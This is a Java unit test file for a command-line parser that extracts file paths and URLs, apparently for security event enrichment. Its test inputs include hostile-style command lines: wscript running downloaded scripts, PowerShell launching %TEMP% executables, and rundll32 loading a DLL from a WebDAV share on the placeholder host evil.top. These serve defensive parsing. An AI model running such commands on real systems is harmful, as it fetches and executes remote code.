package io.clicktrail.enricher.file;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;

class CommandLineTest {

    @Test
    void findsQuotedPathsWithBlanks() {
        assertThat(CommandLine.paths(
                        "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\John Doe\\Downloads\\a b.js\""))
                .containsExactly("C:\\Windows\\System32\\WScript.exe", "C:\\Users\\John Doe\\Downloads\\a b.js");
    }

    @Test
    void joinsAnUnquotedPathUpToItsFileName() {
        assertThat(CommandLine.paths("wscript.exe C:\\Users\\John Doe\\Downloads\\invoice final.js //B"))
                .containsExactly("C:\\Users\\John Doe\\Downloads\\invoice final.js");
    }

    @Test
    void findsPathsBehindOptions() {
        assertThat(CommandLine.paths("powershell -File=E:\\a.ps1 /c start %TEMP%\\b.exe; $env:APPDATA\\c.ps1"))
                .containsExactly("E:\\a.ps1", "%TEMP%\\b.exe", "$env:APPDATA\\c.ps1");
    }

    @Test
    void findsUnixPathsButNoSwitches() {
        assertThat(CommandLine.paths("bash -c '/tmp/x.sh' /home/bob/Downloads/run.sh /c /q"))
                .containsExactly("/tmp/x.sh", "/home/bob/Downloads/run.sh");
    }

    @Test
    void findsSharesAndWebDav() {
        assertThat(CommandLine.paths("rundll32 \\\\evil.top@SSL\\DavWWWRoot\\x.dll,Start"))
                .containsExactly("\\\\evil.top@SSL\\DavWWWRoot\\x.dll");
    }

    @Test
    void findsUrls() {
        assertThat(CommandLine.urls("\"chrome.exe\" --single-argument https://evil.top/a?b=c \"HTTP://x.y/\""))
                .containsExactly("https://evil.top/a?b=c", "HTTP://x.y/");
        assertThat(CommandLine.urls("msedge.exe --app=https://a.b/ microsoft-edge:https://c.d/"))
                .containsExactly("https://a.b/", "https://c.d/");
    }

    @Test
    void isBoundedOnHostileInput() {
        assertThat(CommandLine.paths("C:\\a.b ".repeat(10_000))).hasSize(CommandLine.MAX_PATHS);
        assertThat(CommandLine.paths("x ".repeat(CommandLine.MAX_LENGTH) + "C:\\a.exe"))
                .isEmpty();
        var random = new Random(9);
        String alphabet = "C:\\/ \"'%$env:TEMP%.exe-;,ht p";
        for (int i = 0; i < 20_000; i++) {
            var text = new StringBuilder();
            for (int j = random.nextInt(60); j > 0; j--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(CommandLine.paths(text.toString()))
                    .as("seed 9, %s", text)
                    .doesNotContainNull();
            assertThat(CommandLine.urls(text.toString())).as("seed 9, %s", text).doesNotContainNull();
        }
    }
}
